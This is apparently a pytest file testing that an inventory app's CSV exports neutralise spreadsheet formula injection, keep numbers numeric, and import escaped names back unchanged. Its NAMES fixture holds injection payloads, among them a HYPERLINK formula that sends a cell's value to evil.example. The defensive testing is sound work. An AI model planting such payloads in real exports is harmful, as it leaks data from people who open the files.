"""Every CSV export neutralises cells a spreadsheet would run as formulas, keeps numbers
as numbers, and the CSV import reads a neutralised cell back as it was."""

import csv
import io
import re

import pytest
from sqlalchemy import select

from krafte_pwa.domain.spreadsheet import FORMULA_START, neutralise, unneutralise
from krafte_pwa.extensions import db
from krafte_pwa.models import Item
from krafte_pwa.services import (
    counts,
    imports,
    production,
    recipes,
    shipments,
    stock,
)
from krafte_pwa.services import items as item_actions
from krafte_pwa.services import locations as location_actions
from tests.factories import candle_workshop, in_days

NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@SUM(1)", "-1+2"]
PLAIN_NUMBER = re.compile(r"-?[0-9]+([.,][0-9]+)?")


@pytest.fixture
def hostile(app, users):
    """Items, partners, a lot's supplier code, reasons and a location name that look
    like formulas; stock moved, shipped, counted, produced, so every export has them."""
    candle_workshop()
    skus = []
    for n, name in enumerate(NAMES):
        sku = f"EVIL-{n}"
        item_actions.create_item(sku=sku, name=name, kind="material", unit="g",
                            shelf_life_days=10)
        skus.append(sku)
    item_actions.create_item(sku="EVILP", name=NAMES[3], kind="product", unit="pcs")
    location_actions.create_location(code="BIN", name=NAMES[2])
    lots = []
    for n, sku in enumerate(skus):
        result = stock.receive_goods(supplier=NAMES[n], location="STORE", lines=[
            {"item": sku, "quantity": "100", "unit_cost": "2", "supplier_lot": NAMES[-1 - n],
             "expiry": in_days(5).isoformat()}])
        lots.append(result.lots[0].code)
    stock.adjust_stock(lot=lots[0], location="STORE", quantity="-5", reason=NAMES[0])
    stock.transfer_stock(lot=lots[1], source="STORE", destination="BIN", quantity="10")
    shipments.ship(customer=NAMES[2], lines=[{"item": skus[2], "quantity": "3"}])
    recipes.save_recipe(item="EVILP", yield_quantity=1, lines=[{"item": skus[3], "quantity": 2}])
    order = production.plan_order(item="EVILP", quantity=5)
    production.start_order(number=order.number)
    production.complete_order(number=order.number, quantity=5, location="STORE")
    count, _resumed = counts.open_count(location="BIN")
    counts.record_line(number=count.number, lot=lots[1], quantity="7")
    return {"lots": lots, "skus": skus, "count": count.number, "order": order.number}


def rows_of(client, path: str) -> tuple[list[list[str]], str]:
    response = client.get(path)
    body = response.get_data().decode("utf-8")
    response.close()
    assert response.status_code == 200, (path, body[:300])
    assert response.mimetype == "text/csv", path
    sep = ";" if "sep=" in path else ","
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=sep)), body


def test_every_export_neutralises_formulas(client, login_as, hostile):
    login_as("manager")
    lot = hostile["lots"][0]
    exports = [
        "/items.csv", "/lots.csv", "/lots.csv?include_empty=1&sep=;", f"/recall/{lot}.csv",
        "/shipments/?format=csv", "/counts/?format=csv", f"/counts/{hostile['count']}?format=csv",
        "/reports/?format=csv", "/reports/movements?format=csv",
        "/reports/movements?format=csv&sep=;", "/reports/recipe-costs?format=csv",
        "/reports/orders?format=csv", "/reports/turnover?format=csv",
        "/reports/stock-level?item=EVIL-0&format=csv", "/reports/expiring?format=csv&days=30",
        "/reports/accounting?format=csv", "/imports/items/template.csv",
    ]
    seen = set()
    for path in exports:
        rows, body = rows_of(client, path)
        for row in rows:
            for value in row:
                if value.startswith(FORMULA_START):
                    # only a number may start so: -5 moved out, -12,5 with sep=;
                    assert PLAIN_NUMBER.fullmatch(value), (path, value)
                if value.startswith("'"):
                    seen.add(value[1:])
        assert not re.search(r'(^|[,;"\n])[=+@]', body.lstrip("\ufeff")), path
    assert set(NAMES) <= seen


def test_numbers_stay_numbers(client, login_as, hostile):
    login_as("manager")
    rows, _body = rows_of(client, "/reports/movements?format=csv")
    header = rows[0]
    quantities = [row[header.index("quantity")] for row in rows[1:]]
    assert "-5" in quantities and "-10" in quantities  # the adjustment, the transfer out
    rows, _body = rows_of(client, "/reports/movements?format=csv&sep=;")
    assert "-5" in [row[header.index("quantity")] for row in rows[1:]]
    reasons = [row[header.index("reason")] for row in rows[1:]]
    assert "'" + NAMES[0] in reasons


def test_text_that_looks_like_a_number_stays_text():
    assert neutralise("-5") == "'-5" and neutralise("+1") == "'+1"
    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1"
    assert neutralise("\uff1dSUM(1)") == "'\uff1dSUM(1)"
    assert neutralise("Soy wax") == "Soy wax" and neutralise("'quoted") == "'quoted"
    for text in [*NAMES, "-5", "plain", "'kept", "'"]:
        assert unneutralise(neutralise(text)) == text


def test_an_exported_name_imports_back_unchanged(client, login_as, hostile):
    login_as("manager")
    rows, body = rows_of(client, "/items.csv")
    parsed = imports.read_rows(body.encode("utf-8"), tuple(rows[0]))
    names = {row["sku"]: row["name"] for _line, row in parsed}
    for n, name in enumerate(NAMES):
        assert names[f"EVIL-{n}"] == name
    stored = db.session.execute(select(Item.name).where(Item.sku == "EVIL-0")).scalar_one()
    assert stored == NAMES[0]
